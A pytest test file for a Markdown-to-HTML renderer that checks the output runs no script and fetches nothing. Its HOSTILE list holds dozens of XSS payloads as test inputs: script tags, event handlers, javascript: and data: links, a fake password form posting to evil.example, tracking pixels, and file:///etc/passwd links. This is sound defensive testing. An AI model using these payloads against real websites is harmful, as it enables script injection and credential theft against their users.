"""Markdown becomes HTML in which nothing runs and nothing is fetched, whatever somebody writes."""

import re
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from capecontrol.web.rendering import render

TAGS = {"p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span", "div"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td"}
TAGS |= {f"h{level}" for level in range(1, 7)}
ATTRIBUTES = {"href", "title", "rel", "class", "start"}

HOSTILE = [
    # Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style=position:fixed;inset:0>x</div>",
    "<p onclick=alert(1)>x</p>",
    "<textarea autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- comment -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "</p></div></main><h1>Ours</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "<x/onmouseover=alert(1)>",
    "<\x0cscript>alert(1)</script>",
    # Links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](http://a.example/" onmouseover="alert(1))',
    "[x](http://a.example 'title\" onclick=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: <javascript:alert(1)> "t"\n\n[x][]',
    "<javascript:alert(1)>",
    '<http://a.example/"onclick=alert(1)>',
    "[a](javascript://%0aalert(1))",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    # Images
    "![x](http://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '!["onerror="alert(1)](x)',
    "![x](x 'a\" onerror=\"alert(1)')",
    "[![x](http://evil.example/pixel.gif)](http://evil.example)",
    "![<script>alert(1)</script>](//evil.example/x)",
    # Code
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\ny\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```js\n`${alert(1)}`</span><img src=x onerror=alert(1)>\n```",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "~~~nosuchlanguage\n<b>\n~~~",
    # Structure
    "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>",
    "1. <script>alert(1)</script>\n   - [x](javascript:alert(1))",
    "<div>\n\n**bold**\n\n</div>",
    "# <svg onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "\u202ejavascript:alert(1)",
    "\x00<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7 * 7 }} {% include 'x' %} ${7*7}",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_that_somebody_writes_runs_or_is_fetched(markdown: str) -> None:
    html = render(markdown)
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert tag.name in TAGS, html
        assert set(tag.attrs) <= ATTRIBUTES, html
        if "class" in tag.attrs:
            assert tag.name in ("span", "code"), html
            assert all(re.fullmatch(r"language-[a-z+0-9]+|[a-z0-9]{1,4}", name) for name in tag["class"]), html
        if tag.name == "a" and tag.has_attr("href"):
            assert urlsplit(str(tag["href"])).scheme in ("", "http", "https", "mailto"), html
            assert set(tag["rel"]) == {"noopener", "noreferrer", "nofollow"}, html


def test_there_are_enough_hostile_samples() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("markdown", HOSTILE)
def test_drawing_twice_gives_the_same(markdown: str) -> None:
    first = render(markdown)
    render.cache_clear()
    assert render(markdown) == first


def test_markup_is_shown_as_the_text_it_is() -> None:
    shown = BeautifulSoup(render("<b onclick=x>hello</b> & <i>"), "html.parser").get_text().strip()
    assert shown == "<b onclick=x>hello</b> & <i>"


def test_an_image_becomes_a_link_that_tells_nobody_anything() -> None:
    link = BeautifulSoup(render("![a seal](https://pictures.example.com/seal.png)"), "html.parser").a
    assert link is not None
    assert (link["href"], link.get_text()) == ("https://pictures.example.com/seal.png", "a seal")


def test_what_people_write_with_comes_out() -> None:
    html = render(
        "# Title\n\n**b** *i* ~~s~~ `c`\n\n- one\n- two\n\n3. three\n\n> said\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\nline\nbreak\n\n[help](/help/limits#x)"
    )
    for expected in ("<h1>", "<strong>b</strong>", "<em>i</em>", "<s>s</s>", "<code>c</code>", "<ul>", "<blockquote>"):
        assert expected in html
    assert '<ol start="3">' in html
    assert "<td>2</td>" in html
    assert "<br>" in html
    assert 'href="/help/limits#x"' in html


def test_code_of_a_known_language_is_coloured() -> None:
    html = render("```python\nimport os\n```")
    assert 'class="language-python"' in html
    assert '<span class="kn">import</span>' in html


def test_code_in_any_language_keeps_every_character() -> None:
    code = "if (a < b && c > d) {\n\t\"x\" 'y' \\ é 🦭\n}\n"
    for language in ("", "python", "c", "sql", "nosuchlanguage"):
        shown = BeautifulSoup(render(f"```{language}\n{code}```"), "html.parser").get_text()
        assert shown.strip() == code.strip()


def test_much_code_is_shown_without_colours() -> None:
    """Colouring takes time that grows with the square, so one message may have only so much of it."""
    html = render("```python\n" + "import os\n" * 290 + "```\n\n```python\nimport sys\n" + "x = 1\n" * 40 + "```")
    assert html.count('<span class="kn">import</span>') == 290
    assert "import sys" in html


@pytest.mark.parametrize(
    "unit", ["[", "![", "[a](", "*a_ ", "`", "> ", "- ", "<", "&", "|", "~~", "\\", "(", "a  \n", "```java\na\t\n```\n"]
)
def test_the_longest_message_of_dense_markup_is_drawn_in_time(unit: str) -> None:
    """By pytest's own timeout: before the limit on colours one of these took minutes."""
    assert render((unit * 32_000)[:32_000])
